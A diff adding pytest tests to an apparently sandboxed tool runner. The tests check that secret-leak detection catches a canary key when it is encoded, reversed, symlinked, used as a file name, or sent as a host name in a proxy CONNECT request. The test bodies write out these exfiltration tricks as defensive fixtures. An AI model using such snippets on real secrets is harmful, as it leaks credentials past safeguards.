@@ -10,6 +10,8 @@ import secrets
 import sys
 from pathlib import Path
 
+import pytest
+
 from tests.runutil import doit, write_policy, write_request
 from tests.test_tool_steps import fake_path
 
@@ -91,3 +93,59 @@ def test_a_run_whose_evidence_holds_a_secret_is_not_sealed(tmp_path: Path) -> No
     assert not (tmp_path / "repo" / "src" / "config.py").exists()
     result = json.loads((tmp_path / "out" / "r1" / "execution_result.json").read_text())
     assert result["status"] == "failed"
+
+
+# ------------------------------------------------------------------ review findings
+
+
+@pytest.mark.parametrize("how", ["base64", "reversed", "symlink", "filename"])
+def test_an_encoded_or_linked_secret_fails_the_step(tmp_path: Path, how: str) -> None:
+    """The scan looks at encodings, symlink targets and file names, not only raw bytes."""
+    _policy(tmp_path)
+    code = {
+        "base64": "import base64; open('src/k.txt','w').write(base64.b64encode(b'x' + v).decode())",
+        "reversed": "open('src/k.txt','w').write(v.decode()[::-1])",
+        "symlink": "os.symlink(v.decode(), 'src/k')",
+        "filename": "open('src/' + v.decode() + '.txt','w').write('x')",
+    }[how]
+    write_request(tmp_path, [_tool(f"import os; v = os.environ['{CANARY_NAME}'].encode();"
+                                   f"os.makedirs('src', exist_ok=True); {code}")])
+    proc = doit(tmp_path, "run", "request=req.yaml", env=_env())
+    assert proc.returncode != 0
+    assert "secrets.leak" in proc.stdout + proc.stderr, proc.stdout + proc.stderr
+    assert list((tmp_path / "repo").glob("src/*")) == []
+    assert [p for p in (tmp_path / "out" / "r1" / "worktree" / "src").iterdir()] == []
+    assert _holders(tmp_path) == []
+
+
+def test_apply_waits_for_a_secret_the_tool_received(tmp_path: Path) -> None:
+    """Review finding: steps run with the key, apply run without it used to land unchecked."""
+    _policy(tmp_path)
+    code = "import os; os.makedirs('src', exist_ok=True); open('src/ok.txt','w').write('1')"
+    write_request(tmp_path, [_tool(code)])
+    doit(tmp_path, "run", "request=req.yaml", "step:t1", env=_env(), check=0)
+    manifest = json.loads((tmp_path / "out" / "r1" / "steps" / "t1.json").read_text())
+    assert manifest["sandbox"]["secrets"] == [CANARY_NAME]
+    proc = doit(tmp_path, "run", "request=req.yaml", env=fake_path())
+    assert proc.returncode != 0
+    assert f"secret {CANARY_NAME} is not set" in proc.stdout + proc.stderr
+    assert not (tmp_path / "repo" / "src" / "ok.txt").exists()
+    doit(tmp_path, "run", "request=req.yaml", env=_env(), check=0)
+    assert (tmp_path / "repo" / "src" / "ok.txt").read_text() == "1"
+
+
+def test_a_secret_sent_as_a_host_name_fails_the_step(tmp_path: Path) -> None:
+    """Review finding: `CONNECT <key>:443` put the key into the ledger's host field."""
+    write_policy(tmp_path / "policy.yaml",
+                 tools=[{"adapter": "command", "secrets": [CANARY_NAME],
+                         "network": {"allow": ["api.example.com:443"]}}])
+    code = (f"import os, socket; v = os.environ['{CANARY_NAME}'];"
+            "h, _, p = os.environ['HTTPS_PROXY'][7:].rpartition(':');"
+            "s = socket.create_connection((h, int(p)));"
+            "s.sendall(f'CONNECT {v}.example.org:443 HTTP/1.1\\r\\nHost: {v}.example.org:443"
+            "\\r\\n\\r\\n'.encode()); s.recv(100)")
+    write_request(tmp_path, [_tool(code)])
+    proc = doit(tmp_path, "run", "request=req.yaml", env=_env())
+    assert proc.returncode != 0
+    out = proc.stdout + proc.stderr
+    assert "secrets.leak" in out and "network/t1.jsonl" in out, out
